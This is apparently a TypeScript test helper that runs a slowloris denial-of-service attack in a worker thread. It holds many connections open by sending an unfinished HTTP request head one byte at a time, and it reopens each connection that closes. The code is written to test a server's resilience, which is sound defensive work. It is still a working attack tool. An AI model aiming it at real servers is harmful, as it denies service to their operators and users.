// A slowloris with connection churn, for tests: from one address, it opens as many connections as
// it is told, sends the head of a request on each a byte at a time (never its end), and opens a new
// connection for every one that is closed, whoever closed it. It runs in a worker thread of its own,
// as an attacker runs on a machine of its own: on the test's event loop, its churn would slow the
// legitimate clients the test measures, not the server.
import { connect, type Socket } from 'node:net';
import { isMainThread, parentPort, Worker, workerData } from 'node:worker_threads';

interface Attack {
  readonly url: string;
  readonly size: number;
  readonly from: string;
}

/** The head sent a byte at a time; it never ends (no blank line). */
const ENDLESS_HEAD = `GET /todos/1 HTTP/1.1\r\nHost: x\r\nX-Padding: ${'a'.repeat(4_000)}`;
/** Every connection sends its next byte this often. */
const TRICKLE_MS = 250;

function attack({ url, size, from }: Attack): () => number {
  const { hostname, port } = new URL(url);
  const open = new Map<Socket, number>();
  let stopped = false;
  let opened = 0;
  const one = (): void => {
    if (stopped) return;
    opened += 1;
    const socket = connect({ host: hostname, port: Number(port), localAddress: from });
    socket.on('error', () => undefined);
    socket.once('connect', () => {
      open.set(socket, 1);
      socket.write(ENDLESS_HEAD.slice(0, 1));
    });
    socket.once('close', () => {
      open.delete(socket);
      setImmediate(one);
    });
  };
  const trickle = setInterval(() => {
    for (const [socket, sent] of open) {
      socket.write(ENDLESS_HEAD.charAt(sent % ENDLESS_HEAD.length));
      open.set(socket, sent + 1);
    }
  }, TRICKLE_MS);
  for (let k = 0; k < size; k++) one();
  return () => {
    stopped = true;
    clearInterval(trickle);
    for (const socket of open.keys()) socket.destroy();
    return opened;
  };
}

if (!isMainThread && parentPort !== null) {
  const port = parentPort;
  const stop = attack(workerData as Attack);
  port.once('message', () => port.postMessage(stop()));
}

export interface Slowloris {
  /** Ends the attack; resolves with the number of connections it opened in all. */
  stop(): Promise<number>;
}

/** Starts the attack on `url` from `from`, trying to hold `size` connections. */
export function slowloris(url: string, size: number, from = '127.0.0.1'): Slowloris {
  const worker = new Worker(new URL(import.meta.url), { workerData: { url, size, from } });
  let failure: Error | undefined;
  worker.on('error', (error) => (failure = error));
  return {
    stop: async () => {
      // A worker that failed says so; one that is gone without a word opened nothing.
      if (failure !== undefined) throw failure;
      const opened = new Promise<number>((resolve) => {
        worker.once('message', (count: number) => resolve(count));
        worker.once('exit', () => resolve(0));
      });
      worker.postMessage('stop');
      const count = await opened;
      await worker.terminate();
      return count;
    },
  };
}
